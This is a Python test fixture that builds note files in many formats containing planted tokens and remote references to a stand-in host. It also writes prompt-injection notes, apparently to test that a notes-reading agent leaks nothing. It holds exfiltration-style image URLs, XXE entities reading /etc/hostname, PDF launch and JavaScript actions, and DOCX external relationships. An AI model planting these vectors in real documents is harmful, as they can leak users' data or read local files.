"""Notes that point elsewhere in every way we know of, in every format we read, with words planted in them that nothing may carry away."""

from __future__ import annotations

import hashlib
import io
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path

import docx
from injections import INJECTIONS, Injection
from note_files import pdf_file, saved, write_notes

TOKENS = 100
NAMED = 10
"""So many of them stand in the names of files, too."""

TARGETS = (
    "http://remote.invalid/a.png?q=words", "https://remote.invalid/a.png?q=words", "//remote.invalid/share/a.png",
    "file:///etc/hostname", "file://remote.invalid/share/a.png", "\\\\remote.invalid\\share\\a.png", "smb://remote.invalid/share/a.png",
    "ftp://remote.invalid/a.png", "data:image/svg+xml;utf8,<svg><image href='http://remote.invalid/b.png'/></svg>", "/etc/hostname",
)  # fmt: skip

MARKDOWN = (
    "![picture]({0})", "![picture][one]\n\n[one]: {0} \"a title\"", "[a link]({0}) and <{0}>", '<img src="{0}" width="1" height="1">',
    '<iframe src="{0}"></iframe>', "<style>body {{ background: url({0}) }} @import url('{0}');</style>", "![[{0}]]",
    "| a | b |\n|---|---|\n| ![pixel]({0}) | [x]({0}) |",
    '<video src="{0}" autoplay poster="{0}"></video><object data="{0}"></object><embed src="{0}">',
    "```mermaid\nclick A href \"{0}\"\n```\n\n> ![quoted]({0})",
)  # fmt: skip

HTML = (
    '<img src="{0}" srcset="{0} 2x">', '<link rel="stylesheet" href="{0}"><link rel="preload" as="image" href="{0}">',
    '<script src="{0}"></script>', '<iframe src="{0}"></iframe>', '<meta http-equiv="refresh" content="0; url={0}">',
    '<base href="{0}"><img src="relative.png">', '<form action="{0}" method="post"><input name="q" autofocus></form>',
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{0}"/><use href="{0}"/></svg>',
    '<div style="background: url({0})">x</div><style>@font-face {{ font-family: f; src: url({0}) }} p {{ font-family: f }}</style>',
    '<audio src="{0}" autoplay></audio><object data="{0}"></object><portal src="{0}"></portal>',
)  # fmt: skip

PDF_ACTIONS = (
    "/S /URI /URI ({0})", "/S /Launch /F ({0})", "/S /SubmitForm /F << /FS /URL /F ({0}) >>", "/S /GoToR /F ({0}) /D [0 /Fit]",
    "/S /ImportData /F ({0})", "/S /JavaScript /JS (app.launchURL\\('{0}'\\);)",
)  # fmt: skip


def token(number: int) -> str:
    """A word that stands nowhere else on this machine."""
    return "xq" + hashlib.sha256(f"planted word {number}".encode()).hexdigest()[:14]


def write_remote_notes(folder: Path, count: int, injections: Sequence[Injection] = INJECTIONS) -> int:
    """Ordinary notes of every format and so many more with remote references; every word of `token` stands in some of them, and the
    first `NAMED` in names of files too. Returns how many files there are."""
    write_notes(folder)
    made = _made()
    for number in range(count):
        name, data = next(made)
        words = " ".join(token(at) for at in range(TOKENS) if at % count == number)
        named = f"{token(number)} " if number < NAMED else ""
        path = folder / "Elsewhere" / f"{named}{number:03} {name}"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data(f"Planted in note {number}: {words}."))
    # One that cannot be read, with a word in it that an error might quote.
    (folder / "Elsewhere" / f"{token(0)} damaged.docx").write_bytes(b"PK\x03\x04" + token(1).encode() * 50)
    (folder / "Elsewhere" / "endless.md").write_text("[" * 3000 + token(2), "utf-8")
    injected = folder / "Instructions"
    injected.mkdir()
    for number, injection in enumerate(injections):
        (injected / f"{number:03} {injection.name}.md").write_text(injection.note(), "utf-8")
    return sum(1 for path in folder.rglob("*") if path.is_file())


def _made() -> Iterator[tuple[str, object]]:
    """Without end: kinds take turns, so that any beginning of it holds every kind."""
    round_number = 0
    while True:
        target = TARGETS[round_number % len(TARGETS)]
        shape = round_number // len(TARGETS) + round_number
        markdown, html = MARKDOWN[shape % len(MARKDOWN)], HTML[shape % len(HTML)]
        action = PDF_ACTIONS[shape % len(PDF_ACTIONS)]
        yield "picture.md", lambda words, m=markdown, t=target: f"# Remote\n\n{words}\n\n{m.format(t)}\n".encode()
        yield "page.html", lambda words, h=html, t=target: _html(words, h.format(t), t)
        yield "letter.docx", lambda words, t=target: _word(words, t)
        yield "paper.pdf", lambda words, a=action, t=target: _pdf(words, a.format(t.replace("\\", "\\\\")), t)
        yield "drawing.svg", lambda words, t=target: _svg(words, t)
        yield "list.txt", lambda words, t=target: f"{words}\n\nSee {t} and <img src='{t}'>.\n".encode()
        round_number += 1


def _html(words: str, body: str, target: str) -> bytes:
    entity = f'<!DOCTYPE html SYSTEM "{target}" [<!ENTITY e SYSTEM "{target}">]><?xml-stylesheet href="{target}"?>'
    return f"{entity}<html><head><title>Remote</title></head><body><p>{words} &e;</p>{body}</body></html>".encode()


def _svg(words: str, target: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "{target}">]><svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:x="http://www.w3.org/1999/xlink"><image x:href="{target}"/><text>{words} &e;</text></svg>'
    ).encode()


def _word(words: str, target: str) -> bytes:
    document = docx.Document()
    document.add_paragraph(words)
    plain = saved(document)
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    rows = "".join(
        f'<Relationship Id="rIdX{number}" Type="{kinds}{kind}" Target="{_escaped(target)}" TargetMode="External"/>'
        for number, kind in enumerate(("image", "attachedTemplate", "hyperlink", "oleObject", "frame"))
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as copy:
        for part in source.namelist():
            data = source.read(part)
            if part == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", rows.encode() + b"</Relationships>")
            if part == "word/document.xml":
                fetched = b'<w:p><w:r><w:instrText>INCLUDEPICTURE "%s"</w:instrText></w:r></w:p></w:body>'
                data = data.replace(b"</w:body>", fetched % _escaped(target).encode())
            copy.writestr(part, data)
    return buffer.getvalue()


def _pdf(words: str, action: str, target: str) -> bytes:
    shown = f"BT /F1 12 Tf 60 700 Td ({words.replace('(', '').replace(')', '')}) Tj ET".encode()
    target = target.replace("\\", "\\\\").replace("(", "").replace(")", "")
    return pdf_file(
        [
            f"<< /Type /Catalog /Pages 2 0 R /OpenAction << {action} >> /AA << /WC << {action} >> >> >>".encode(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> "
            f"/XObject << /X 7 0 R >> >> /AA << /O << {action} >> >> /Annots [6 0 R] >>".encode(),
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(shown), shown),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            f"<< /Type /Annot /Subtype /Link /Rect [60 690 400 720] /A << {action} >> >>".encode(),
            f"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Length 0 "
            f"/F << /Type /Filespec /FS /URL /F ({target}) >> >>\nstream\n\nendstream".encode(),
        ]
    )  # fmt: skip


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
